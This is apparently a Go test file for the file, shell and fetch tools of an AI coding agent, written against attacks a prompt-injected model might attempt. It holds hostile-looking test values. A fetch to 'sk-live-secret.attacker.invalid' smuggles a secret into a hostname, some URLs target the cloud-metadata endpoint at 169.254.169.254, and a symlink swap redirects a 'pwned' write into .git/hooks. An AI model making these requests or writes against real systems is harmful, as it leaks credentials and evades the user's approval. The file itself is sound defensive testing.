package tool

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// The attacks below are what a prompt-injected model would ask for; each
// test says which defence it checks.

func call(set *Set, name string, args map[string]any) Result {
	b, _ := json.Marshal(args)
	return set.Dispatch(context.Background(), name, string(b))
}

// TestSymlinkSwapCannotEscape swaps a symlink in the working directory
// between a file inside and a secret outside while read_file runs (no one
// can approve outside reads): no read may ever return the secret.
func TestSymlinkSwapCannotEscape(t *testing.T) {
	t.Parallel()
	dir, outside := t.TempDir(), t.TempDir()
	secret := filepath.Join(outside, "secret")
	os.WriteFile(secret, []byte("TOP-SECRET\n"), 0o600)
	os.WriteFile(filepath.Join(dir, "plain.txt"), []byte("plain\n"), 0o600)
	link := filepath.Join(dir, "link")
	os.Symlink("plain.txt", link)
	set := NewSet(Builtins(Workspace{Root: dir})...)
	var stop atomic.Bool
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; !stop.Load(); i++ {
			tmp := filepath.Join(dir, fmt.Sprintf("tmp%d", i%2))
			target := "plain.txt"
			if i%2 == 1 {
				target = secret
			}
			os.Remove(tmp)
			os.Symlink(target, tmp)
			os.Rename(tmp, link)
		}
	}()
	leaks := 0
	for i := 0; i < 300; i++ {
		for _, name := range []string{"read_file", "grep"} {
			args := map[string]any{"path": "link"}
			if name == "grep" {
				args["pattern"] = "."
			}
			if r := call(set, name, args); strings.Contains(r.Content, "TOP-SECRET") {
				leaks++
			}
		}
	}
	stop.Store(true)
	wg.Wait()
	if leaks > 0 {
		t.Fatalf("%d of 600 reads returned the outside file", leaks)
	}
}

// TestNothingReadBeforeApproval: edit_file on an outside file must not
// tell the model whether old_string occurs before anyone approves, and
// write_file/edit_file on /dev/zero are refused without reading it.
func TestNothingReadBeforeApproval(t *testing.T) {
	t.Parallel()
	dir, outside := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(outside, "secret"), []byte("password=hunter2\n"), 0o600)
	var reviews []Review
	set := NewSet(Builtins(Workspace{Root: dir})...)
	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		reviews = append(reviews, r.Review)
		return Decision{Verdict: Deny}, nil
	})
	present := call(set, "edit_file", map[string]any{"path": filepath.Join(outside, "secret"), "old_string": "hunter2", "new_string": "x"})
	absent := call(set, "edit_file", map[string]any{"path": filepath.Join(outside, "secret"), "old_string": "zzz", "new_string": "x"})
	if present.Content != absent.Content || len(reviews) != 2 {
		t.Fatalf("the answers differ:\n%s\n%s", present.Content, absent.Content)
	}
	for _, r := range reviews {
		if strings.Contains(r.Detail+r.Summary, "password") {
			t.Fatalf("the review read the file: %+v", r)
		}
	}
	for _, name := range []string{"write_file", "edit_file", "read_file"} {
		start := time.Now()
		r := call(set, name, map[string]any{"path": "/dev/zero", "content": "x", "old_string": "a", "new_string": "b"})
		if !strings.Contains(r.Content, "not a regular file") && r.ErrType != ErrTypeDenied {
			t.Errorf("%s /dev/zero: %s", name, r.Content)
		}
		if time.Since(start) > 5*time.Second {
			t.Errorf("%s /dev/zero took %s", name, time.Since(start))
		}
	}
}

// TestSpecialFilesRefused: a FIFO in the working directory (free to
// read) neither hangs read_file nor grep nor list_files, even as a
// .gitignore.
func TestSpecialFilesRefused(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "a.txt"), []byte("needle\n"), 0o600)
	for _, f := range []string{"pipe", ".gitignore", "sub/.gitignore"} {
		os.MkdirAll(filepath.Dir(filepath.Join(dir, f)), 0o755)
		if err := syscall.Mkfifo(filepath.Join(dir, f), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	set := NewSet(Builtins(Workspace{Root: dir})...)
	set.rules.Policy = &Policy{AllowAll: true}
	done := make(chan struct{})
	go func() {
		defer close(done)
		if r := call(set, "read_file", map[string]any{"path": "pipe"}); !strings.Contains(r.Content, "named pipe") {
			t.Errorf("read_file: %s", r.Content)
		}
		if r := call(set, "grep", map[string]any{"pattern": "needle"}); !strings.Contains(r.Content, "a.txt:1: needle") {
			t.Errorf("grep: %s", r.Content)
		}
		if r := call(set, "grep", map[string]any{"pattern": "x", "path": "pipe"}); !strings.Contains(r.Content, "named pipe") {
			t.Errorf("grep on the pipe: %s", r.Content)
		}
		if r := call(set, "list_files", map[string]any{}); !strings.Contains(r.Content, "a.txt") {
			t.Errorf("list_files: %s", r.Content)
		}
		if r := call(set, "write_file", map[string]any{"path": "pipe", "content": "x"}); !strings.Contains(r.Content, "named pipe") {
			t.Errorf("write_file: %s", r.Content)
		}
	}()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("a file tool hung on a FIFO")
	}
}

// TestLongLines: a line past any scanner limit neither breaks read_file
// nor hides a match from grep, on it or after it.
func TestLongLines(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	long := strings.Repeat("x", 6<<20)
	os.WriteFile(filepath.Join(dir, "long.txt"), []byte("first\n"+long+"NEEDLE-AT-END\nNEEDLE-AFTER\n"), 0o600)
	set := NewSet(Builtins(Workspace{Root: dir, MaxOutput: 1 << 20})...)
	r := call(set, "read_file", map[string]any{"path": "long.txt"})
	if r.Err != nil || !strings.Contains(r.Content, "     3\tNEEDLE-AFTER") || !strings.Contains(r.Content, "line cut") {
		t.Fatalf("read_file: %.300s", r.Content)
	}
	r = call(set, "grep", map[string]any{"pattern": "NEEDLE-AT-END$|NEEDLE-AFTER"})
	if !strings.Contains(r.Content, "long.txt:2:") || !strings.Contains(r.Content, "long.txt:3: NEEDLE-AFTER") {
		t.Fatalf("grep: %.300s", r.Content)
	}
}

// TestAlwaysCoversADirectory: "always" for a read outside covers that
// directory, not the whole machine.
func TestAlwaysCoversADirectory(t *testing.T) {
	t.Parallel()
	dir, a, b := t.TempDir(), t.TempDir(), t.TempDir()
	for _, d := range []string{a, b} {
		os.WriteFile(filepath.Join(d, "f.txt"), []byte("x\n"), 0o600)
		os.WriteFile(filepath.Join(d, "g.txt"), []byte("y\n"), 0o600)
	}
	asked := 0
	set := NewSet(Builtins(Workspace{Root: dir})...)
	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		asked++
		return Decision{Verdict: AllowAlways}, nil
	})
	call(set, "read_file", map[string]any{"path": filepath.Join(a, "f.txt")})
	call(set, "read_file", map[string]any{"path": filepath.Join(a, "g.txt")})
	call(set, "grep", map[string]any{"pattern": "x", "path": a})
	if asked != 1 {
		t.Fatalf("asked %d times inside the approved directory", asked)
	}
	call(set, "read_file", map[string]any{"path": filepath.Join(b, "f.txt")})
	if asked != 2 {
		t.Fatal("an always answer for one directory allowed another")
	}
	// A write is not a read.
	call(set, "write_file", map[string]any{"path": filepath.Join(a, "h.txt"), "content": "z"})
	if asked != 3 {
		t.Fatal("an always answer for reading allowed a write")
	}
}

// TestFetchIsGated: fetch_url asks, says when the host is loopback,
// strips credentials, re-asks for a redirect to another host, and
// connects to the address resolved at review.
func TestFetchIsGated(t *testing.T) {
	t.Parallel()
	var auth atomic.Value
	auth.Store("")
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "other host") }))
	defer other.Close()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth.Store(r.Header.Get("Authorization"))
		switch r.URL.Path {
		case "/away":
			http.Redirect(w, r, strings.Replace(other.URL, "127.0.0.1", "localhost", 1)+"/x", http.StatusFound)
		case "/here":
			http.Redirect(w, r, "/page", http.StatusFound)
		default:
			fmt.Fprint(w, "page text")
		}
	}))
	defer srv.Close()
	var asked []Request
	answer := Decision{Verdict: Allow}
	set := NewSet(FetchURL{})
	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		asked = append(asked, r)
		return answer, nil
	})
	u, _ := url.Parse(srv.URL)
	r := call(set, "fetch_url", map[string]any{"url": "http://user:pw@" + u.Host + "/page"})
	if r.Content != "page text" || len(asked) != 1 || auth.Load() != "" {
		t.Fatalf("%+v asked %d auth %q", r, len(asked), auth.Load())
	}
	if !strings.Contains(asked[0].Review.Warning, "loopback") || strings.Contains(asked[0].Review.Summary, "pw") {
		t.Fatalf("review %+v", asked[0].Review)
	}
	// A redirect on the same host does not ask again; to another one it does.
	if r = call(set, "fetch_url", map[string]any{"url": srv.URL + "/here"}); r.Content != "page text" || len(asked) != 2 {
		t.Fatalf("%+v asked %d", r, len(asked))
	}
	answer = Decision{Verdict: Allow}
	n := len(asked)
	asks := 0
	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		asks++
		if asks == 2 {
			return Decision{Verdict: Deny, Reason: "not there"}, nil
		}
		return Decision{Verdict: Allow}, nil
	})
	if r = call(set, "fetch_url", map[string]any{"url": srv.URL + "/away"}); asks != 2 || !strings.Contains(r.Content, "not there") {
		t.Fatalf("redirect: %+v asks %d (%d)", r, asks, n)
	}
	// The address resolved at review is where the request goes: a name
	// that no longer resolves (or resolves elsewhere) does not matter.
	_, port, _ := strings.Cut(u.Host, ":")
	pinned := Review{NeedsApproval: true, host: &hostPin{hostport: "rebind.invalid:" + port, ips: []net.IP{{127, 0, 0, 1}}}}
	ctx := context.WithValue(context.Background(), reviewKey{}, reviewed{review: pinned})
	out, err := FetchURL{}.Run(ctx, json.RawMessage(`{"url":"http://rebind.invalid:`+port+`/page"}`))
	if err != nil || out != "page text" {
		t.Fatalf("pinned: %q %v", out, err)
	}
}

// TestShellDoesNotWaitForBackgroundChildren: a command that leaves a
// child running returns when bash is done, and the child lives on.
func TestShellDoesNotWaitForBackgroundChildren(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	set := NewSet(Builtins(Workspace{Root: dir})...)
	set.rules.Policy = &Policy{AllowAll: true}
	r := call(set, "run_shell", map[string]any{"command": "sleep 30 & echo $! > child.pid; echo started"})
	if r.Err != nil || !strings.Contains(r.Content, "started") || !strings.Contains(r.Content, "[exit status 0]") {
		t.Fatal(r.Content)
	}
	b, _ := os.ReadFile(filepath.Join(dir, "child.pid"))
	var pid int
	fmt.Sscan(string(b), &pid)
	if pid == 0 || syscall.Kill(pid, 0) != nil {
		t.Fatalf("the child %d is not running: run_shell waited for it", pid)
	}
	syscall.Kill(pid, syscall.SIGKILL)
}

// TestFetchLooksNothingUpBeforeTheAnswer: a refused fetch of a name that
// carries a secret makes no DNS query (it did at review); an "always"
// for a host does not cover it resolving to loopback later (a rebind).
func TestFetchLooksNothingUpBeforeTheAnswer(t *testing.T) {
	t.Parallel()
	var lookups []string
	answer := net.IPAddr{IP: net.IP{203, 0, 113, 7}}
	fetch := FetchURL{Lookup: func(_ context.Context, host string) ([]net.IPAddr, error) {
		lookups = append(lookups, host)
		if answer.IP == nil {
			return nil, errors.New("no such host")
		}
		return []net.IPAddr{answer}, nil
	}}
	var asked []Request
	verdict := Decision{Verdict: Deny, Reason: "no"}
	set := NewSet(fetch)
	set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
		asked = append(asked, r)
		return verdict, nil
	})
	r := call(set, "fetch_url", map[string]any{"url": "http://sk-live-secret.attacker.invalid/x"})
	if len(asked) != 1 || r.ErrType != ErrTypeDenied || len(lookups) != 0 {
		t.Fatalf("asked %d, %+v, lookups %v", len(asked), r, lookups)
	}
	// "always" for the host, while it is public (the fetch itself fails:
	// nothing listens there).
	answer.IP = nil
	verdict = Decision{Verdict: AllowAlways}
	call(set, "fetch_url", map[string]any{"url": "http://rebind.example:9/"})
	if len(asked) != 2 {
		t.Fatalf("asked %d", len(asked))
	}
	// Now the name points at loopback: the person is asked again, told why.
	answer.IP = net.IP{127, 0, 0, 1}
	verdict = Decision{Verdict: Deny, Reason: "no"}
	r = call(set, "fetch_url", map[string]any{"url": "http://rebind.example:9/"})
	if len(asked) != 3 || !strings.Contains(asked[2].Review.Warning, "loopback") || r.ErrType == "" {
		t.Fatalf("a rebind to loopback did not ask again: asked %d %+v", len(asked), r)
	}
}

// TestApprovedWriteKeepsItsPath: a folder of an approved path swapped for
// a link inside the working directory while the prompt waits does not
// lead the write elsewhere (sub/pre-commit landed in .git/hooks).
func TestApprovedWriteKeepsItsPath(t *testing.T) {
	t.Parallel()
	for _, tool := range []string{"write_file", "edit_file"} {
		ws, dir := workspace(t)
		_ = os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755)
		_ = os.MkdirAll(filepath.Join(dir, "sub", "deep"), 0o755)
		_ = os.WriteFile(filepath.Join(dir, "sub", "deep", "pre-commit"), []byte("old"), 0o644)
		_ = os.MkdirAll(filepath.Join(dir, ".git", "hooks", "deep"), 0o755)
		_ = os.WriteFile(filepath.Join(dir, ".git", "hooks", "deep", "pre-commit"), []byte("old"), 0o755)
		set := NewSet(Builtins(ws)...)
		set.rules.Approver = ApproverFunc(func(context.Context, Request) (Decision, error) {
			_ = os.Rename(filepath.Join(dir, "sub"), filepath.Join(dir, "sub-moved"))
			_ = os.Symlink(filepath.Join(".git", "hooks"), filepath.Join(dir, "sub"))
			return Decision{Verdict: Allow}, nil
		})
		args := map[string]any{"path": "sub/deep/pre-commit", "content": "pwned"}
		if tool == "edit_file" {
			args = map[string]any{"path": "sub/deep/pre-commit", "old_string": "old", "new_string": "pwned"}
		}
		r := call(set, tool, args)
		if b, _ := os.ReadFile(filepath.Join(dir, ".git", "hooks", "deep", "pre-commit")); string(b) != "old" {
			t.Fatalf("%s: the write followed the swapped link: %q (%+v)", tool, b, r)
		}
		if r.Err == nil || !strings.Contains(r.Content, "changed") {
			t.Errorf("%s: %+v", tool, r)
		}
	}
}

// TestMetadataFetchIsThePersonsCall: cloud metadata (169.254.169.254, a
// link-local address, a metadata name, or a name that resolves to one)
// is asked every time: --yes, allow lists and hooks do not cover it, and
// where nobody can answer it is refused. So is a loopback or private
// address, or a name that resolves to one: the person's own services.
func TestMetadataFetchIsThePersonsCall(t *testing.T) {
	t.Parallel()
	rebind := FetchURL{Lookup: func(context.Context, string) ([]net.IPAddr, error) {
		return []net.IPAddr{{IP: net.ParseIP("169.254.169.254")}}, nil
	}}
	for _, target := range []string{"http://169.254.169.254/latest/meta-data/iam/", "http://[fe80::1]/", "http://metadata.google.internal/computeMetadata/v1/", "http://innocent.example/"} {
		set := NewSet(rebind)
		set.rules.Policy = &Policy{AllowAll: true, AllowTools: []string{"fetch_url"}}
		r := call(set, "fetch_url", map[string]any{"url": target})
		if r.Err == nil || !strings.Contains(r.Content, "needs the user's approval") {
			t.Errorf("%s under --yes and allow: %+v", target, r)
		}
		var asked []Request
		set.rules.Approver = ApproverFunc(func(_ context.Context, r Request) (Decision, error) {
			asked = append(asked, r)
			return Decision{Verdict: Deny, Reason: "no"}, nil
		})
		call(set, "fetch_url", map[string]any{"url": target})
		if len(asked) != 1 || len(asked[0].Always) != 0 || !strings.Contains(strings.Join(asked[0].Why, " "), "metadata") {
			t.Errorf("%s: asked %+v", target, asked)
		}
	}
	for _, private := range []string{"10.0.0.1", "fd00::1"} {
		rv := reviewURL(&url.URL{Scheme: "http", Host: net.JoinHostPort(private, "80")})
		if !strings.Contains(rv.Warning, "a private address") || rv.PersonOnly == "" {
			t.Errorf("%s: %+v", private, rv)
		}
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "LOCAL-SECRET") }))
	defer srv.Close()
	port := srv.URL[strings.LastIndex(srv.URL, ":")+1:]
	toLoopback := FetchURL{Lookup: func(context.Context, string) ([]net.IPAddr, error) {
		return []net.IPAddr{{IP: net.ParseIP("127.0.0.1")}}, nil
	}}
	for _, target := range []string{srv.URL, "http://localhost:" + port, "http://[::1]:" + port, "http://rebinds.example:" + port} {
		set := NewSet(toLoopback)
		set.rules.Policy = &Policy{AllowAll: true, AllowTools: []string{"fetch_url"}}
		r := call(set, "fetch_url", map[string]any{"url": target})
		if r.Err == nil || strings.Contains(r.Content, "LOCAL-SECRET") || !strings.Contains(r.Content, "--yes does not cover it") {
			t.Errorf("%s under --yes: %+v", target, r)
		}
		asked := 0
		set.rules.Approver = ApproverFunc(func(context.Context, Request) (Decision, error) {
			asked++
			return Decision{Verdict: Deny, Reason: "no"}, nil
		})
		call(set, "fetch_url", map[string]any{"url": target})
		call(set, "fetch_url", map[string]any{"url": target})
		if asked != 2 {
			t.Errorf("%s: asked %d times for two fetches", target, asked)
		}
	}
}
